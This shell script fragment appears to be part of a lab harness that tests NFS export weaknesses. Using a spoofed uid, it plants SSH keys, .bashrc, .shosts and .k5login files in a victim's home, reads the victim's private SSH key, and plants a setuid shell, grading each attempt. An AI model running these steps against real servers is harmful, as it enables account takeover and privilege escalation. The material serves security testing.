# nfs WAY [UID[:GID]]: by the NFS client library, which says any uid: that of `as`, or this one. WAY is
# what is done in the home of `as`, which lies in an export:
#	write	a file there: the grade is `file`
#	plant	a key in its authorized_keys; then it opens the account by ssh
#	start	a key, and a .bashrc that runs instead of a forced command
#	shosts	its .shosts, and the host key of hosta in its known_hosts; then hosta's root is let in by them
#	k5login	its .k5login with alice's principal; then her ticket opens the account
#	key	its .ssh/id_ed25519 is read; then that opens the account by ssh
#	setuid	a shell, setuid; then the first of `also` runs it on hostb

try_nfs() {
	local said=${2-$TO_UID} url=nfs://$SERVER$TO_HOME
	case $1 in
	write)
		echo planted >/run/planted
		nfs_client write /run/planted "$url/by-nfs" && echo file || echo no
		;;
	plant)
		nfs_client mkdir "$url/.ssh" || true
		nfs_client write /run/keys/K.pub "$url/.ssh/authorized_keys" && try_ssh || echo no
		;;
	start)
		nfs_plant 'echo "I am $(id -u)"; exit' "$url/.bashrc" && try_nfs plant || echo no
		;;
	shosts)
		nfs_client mkdir "$url/.ssh" || true
		nfs_plant "$FROM $BY" "$url/.shosts" &&
			nfs_plant "$FROM $(</run/keys/HOST.pub)" "$url/.ssh/known_hosts" && try_hostbased || echo no
		;;
	k5login)
		nfs_plant alice@LAB.EXAMPLE "$url/.k5login" && try_krb5 || echo no
		;;
	key)
		local -a IDS=(-i /run/stolen)
		install -m 0600 -o "$BY" /dev/null /run/stolen
		nfs_client read "$url/.ssh/id_ed25519" /run/stolen && try_ssh || echo no
		;;
	setuid)
		nfs_client setuid /bin/bash "$url/by-nfs" && echo then || echo no
		;;
	esac
}

# The server keeps open for a while what was written, and what is open does not run.
then_nfs() {
	local said
	all_stop
	said=$(as_client "$TO_HOME/by-nfs" -p -c 'id -u') || true
	[ "$said" = "$TO_UID" ] && echo shell || echo no
}

nfs_plant() {
	echo "$1" >/run/planted
	nfs_client write /run/planted "$2"
}

nfs_client() {
	as_client python3 /run/try/nfs.py "$said" "$@"
}
